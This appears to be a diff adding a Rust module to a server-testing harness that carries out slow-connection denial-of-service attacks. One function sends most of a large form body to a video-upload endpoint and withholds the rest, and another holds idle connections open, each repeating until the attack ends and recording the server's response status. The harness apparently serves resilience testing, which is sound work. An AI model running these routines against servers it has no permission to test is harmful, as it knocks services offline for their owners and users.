@@ -1,0 +1,69 @@
+//! Attacks by connections that are held open.
+
+use std::time::Duration;
+
+use anyhow::Result;
+use measure::client::connect;
+use tokio::{
+    io::{AsyncReadExt as _, AsyncWriteExt as _},
+    net::TcpStream,
+    time::{sleep, timeout},
+};
+
+use super::Attacker;
+
+/// How often is looked whether the attack is over.
+pub(super) const TICK: Duration = Duration::from_millis(50);
+/// The length that a form says it has, and how much of it is sent.
+const LENGTH: usize = 523_264;
+const SENT: usize = 510 * 1024;
+
+/// Sends most of a form, and keeps the server waiting for the rest; again when it is closed.
+pub(super) async fn half_sent_form(attacker: Attacker) {
+    while !attacker.is_over() {
+        match half_send(&attacker).await {
+            Ok(stream) => hold(&attacker, stream).await,
+            Err(_) => attacker.note(0),
+        }
+        sleep(TICK).await;
+    }
+}
+
+async fn half_send(attacker: &Attacker) -> Result<TcpStream> {
+    let mut stream = connect(attacker.address, Some(attacker.source)).await?;
+    let address = attacker.address;
+    let head = format!(
+        "POST /studio/videos/new HTTP/1.1\r\nhost: {address}\r\norigin: http://{address}\r\n\
+         content-type: application/x-www-form-urlencoded\r\ncontent-length: {LENGTH}\r\n\r\ntitle="
+    );
+    stream.write_all(head.as_bytes()).await?;
+    stream.write_all(&vec![b'a'; SENT]).await?;
+    Ok(stream)
+}
+
+/// Opens a connection and says nothing; again when it is closed.
+pub(super) async fn idle(attacker: Attacker) {
+    while !attacker.is_over() {
+        match connect(attacker.address, Some(attacker.source)).await {
+            Ok(stream) => hold(&attacker, stream).await,
+            Err(_) => attacker.note(0),
+        }
+        sleep(TICK).await;
+    }
+}
+
+/// Keeps a connection open until the server closes it or the attack is over.
+async fn hold(attacker: &Attacker, mut stream: TcpStream) {
+    let mut bytes = Vec::new();
+    let whole = timeout(Duration::from_secs(30), stream.read_to_end(&mut bytes));
+    if whole.await.is_ok() {
+        attacker.note(status(&bytes));
+    }
+}
+
+/// The status of an answer; 0 when there is none.
+fn status(answer: &[u8]) -> u16 {
+    let text = String::from_utf8_lossy(answer);
+    let status = text.split(' ').nth(1).map(str::parse);
+    status.and_then(Result::ok).unwrap_or_default()
+}
